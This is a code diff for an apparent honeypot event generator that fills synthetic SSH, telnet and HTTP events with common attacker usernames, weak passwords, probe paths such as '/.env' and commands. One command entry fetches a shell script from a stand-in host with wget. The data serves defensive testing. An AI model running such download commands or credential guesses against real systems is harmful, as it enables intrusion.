@@ -63,19 +63,48 @@ func (g *generator) next() *model.Event {
 	default:
 		e.Status = model.StatusResolved
 	}
-	if sv.name == "ssh" {
+	switch sv.name {
+	case "ssh":
 		t := e.Timestamp
+		user, pass := g.pick(benchUsers), g.pick(benchPasswords)
 		e.Details = []model.Detail{
 			{Type: model.DetailGeneric, Data: "Client: SSH-2.0-libssh_0.9.6"},
-			{Timestamp: &t, Type: model.DetailInteraction, Data: "login root / 123456: accepted"},
-			{Timestamp: &t, Type: model.DetailInteraction, Data: "uname -a"},
+			{Timestamp: &t, Type: model.DetailInteraction, Data: "login " + user + " / " + pass + ": accepted"},
+			{Timestamp: &t, Type: model.DetailInteraction, Data: "command: uname -a"},
 		}
+		e.AddLogin(user, pass, true)
+		e.AddCommand(g.pick(benchCommands))
+	case "telnet":
+		e.AddLogin(g.pick(benchUsers), g.pick(benchPasswords), false)
+	case "http":
+		e.AddPath(g.pick(benchPaths))
 	}
 	if sv.name == "recon" {
 		e.Packets = []model.Packet{{Timestamp: e.Timestamp, Protocol: model.ProtoTCP, Port: 3389, Flags: 2,
 			Payload: []byte("\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00")}}
 	}
 	return e
+}
+
+// What attackers try, each list in the order of how often it is tried (pick favours the front).
+var (
+	benchUsers     = []string{"root", "admin", "user", "test", "ubuntu", "pi", "oracle", "postgres", "guest", "ftp", "support", "git"}
+	benchPasswords = func() []string {
+		list := []string{"123456", "password", "admin", "root", "12345678", "qwerty", "raspberry", "1234", "toor", "changeme"}
+		for i := range 990 {
+			list = append(list, fmt.Sprintf("pass%03d!", i))
+		}
+		return list
+	}()
+	benchCommands = []string{"uname -a", "cat /proc/cpuinfo", "wget http://203.0.113.5/x.sh", "id", "ls -la", "free -m", "w", "crontab -l"}
+	benchPaths    = []string{"/wp-login.php", "/", "/.env", "/admin", "/phpmyadmin/", "/cgi-bin/luci", "/boaform/admin/formLogin", "/HNAP1/"}
+)
+
+// pick returns an item of list, the first ones far more often than the last (a skewed draw, as
+// attack traffic is: a few user names and passwords make most attempts).
+func (g *generator) pick(list []string) string {
+	i := int(float64(len(list)) * g.rnd.Float64() * g.rnd.Float64() * g.rnd.Float64())
+	return list[min(i, len(list)-1)]
 }
 
 // wire renders an event in the sensor protocol's JSON form.
@@ -100,6 +129,15 @@ func wire(e *model.Event) map[string]any {
 	}
 	if packets != nil {
 		m["packets"] = packets
+	}
+	if len(e.Logins) > 0 {
+		m["logins"] = e.Logins
+	}
+	if len(e.Commands) > 0 {
+		m["commands"] = e.Commands
+	}
+	if len(e.Paths) > 0 {
+		m["paths"] = e.Paths
 	}
 	return m
 }
